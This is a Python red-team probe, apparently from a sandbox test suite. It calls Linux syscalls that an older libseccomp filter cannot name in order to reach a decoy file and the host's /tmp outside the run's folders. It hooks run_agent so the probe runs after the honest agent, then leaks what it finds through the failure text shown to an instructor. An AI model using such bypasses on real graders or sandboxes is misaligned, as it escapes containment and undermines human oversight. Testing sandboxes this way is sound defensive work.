# Red team: system calls newer than the grader's libseccomp (2.5 knows none past ~453): the extended
# attribute "at" family (Linux 6.13), file_getattr/file_setattr (6.17), open_tree_attr, listmount and
# statmount. A filter built by name cannot name them, and its default lets them through: they reach a
# path outside the run's folders (the machine's /tmp, which reduced mode maps away for every call it
# knows) with nothing fencing them (Landlock does not cover extended attributes). Aimed only at the
# decoy the test made (DECOY).
import ctypes
import json

#@@INCLUDE:_common.py@@

DECOY = "@@DECOY@@".encode()
AT_FDCWD = -100
NR = {"setxattrat": 463, "getxattrat": 464, "listxattrat": 465, "removexattrat": 466,
      "open_tree_attr": 467, "file_getattr": 468, "file_setattr": 469, "listmount": 458, "statmount": 457}
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
SEEN = {}


def _call(name, *args):
    rc = _libc.syscall(ctypes.c_long(NR[name]), *args)
    if rc < 0:
        SEEN[name] = ctypes.get_errno()
        raise OSError(ctypes.get_errno(), name)
    return rc


def _args(buffer, size, flags=0):
    return ctypes.create_string_buffer(
        int.to_bytes(ctypes.addressof(buffer), 8, "little") + int.to_bytes(size, 4, "little")
        + int.to_bytes(flags, 4, "little"), 16)


def _get():
    value = ctypes.create_string_buffer(256)
    rc = _call("getxattrat", AT_FDCWD, DECOY, 0, b"user.segredo", _args(value, 256), ctypes.c_size_t(16))
    SEEN["get"] = value.raw[:rc].decode("latin-1")


def _set():
    value = ctypes.create_string_buffer(b"PWNED", 5)
    _call("setxattrat", AT_FDCWD, DECOY, 0, b"user.pwned", _args(value, 5), ctypes.c_size_t(16))


def _list():
    names = ctypes.create_string_buffer(256)
    rc = _call("listxattrat", AT_FDCWD, DECOY, 0, names, ctypes.c_size_t(256))
    SEEN["list"] = names.raw[:rc].decode("latin-1")


def _remove():
    _call("removexattrat", AT_FDCWD, DECOY, 0, b"user.segredo")


def _fileattr(name):
    attr = ctypes.create_string_buffer(24)  # struct file_attr, FILE_ATTR_SIZE_VER0
    _call(name, AT_FDCWD, DECOY, attr, ctypes.c_size_t(24), 0)


def _open_tree():
    fd = _call("open_tree_attr", AT_FDCWD, b"/tmp", 0, None, ctypes.c_size_t(0))
    SEEN["open_tree_attr"] = sorted(_os.listdir(fd))[:20]


def _listmount():
    # struct mnt_id_req, version 0: size, spare, mnt_id = LSMT_ROOT, param
    request = ctypes.create_string_buffer(int.to_bytes(24, 4, "little") + bytes(4) + b"\xff" * 8 + bytes(16), 32)
    ids = (ctypes.c_uint64 * 64)()
    SEEN["listmount"] = _call("listmount", request, ids, ctypes.c_size_t(64), 0)


def attack(when):
    _try(f"{when}-getxattrat", _get)
    _try(f"{when}-listxattrat", _list)
    _try(f"{when}-file_getattr", _fileattr, "file_getattr")
    _try(f"{when}-file_setattr", _fileattr, "file_setattr")
    _try(f"{when}-setxattrat", _set)
    _try(f"{when}-removexattrat", _remove)
    _try(f"{when}-open_tree_attr", _open_tree)
    _try(f"{when}-listmount", _listmount)
    # Out through the report: the failure text of run_agent is shown to the instructor.
    raise RuntimeError("NEWCALLS " + " ".join(_RESULTS) + " SEEN " + json.dumps(SEEN))


#@@INCLUDE:_starter.py@@

_honest_run_agent = run_agent


def run_agent(task, tools, call_model, execute_tool):
    _honest_run_agent(task, tools, call_model, execute_tool)
    attack("run")
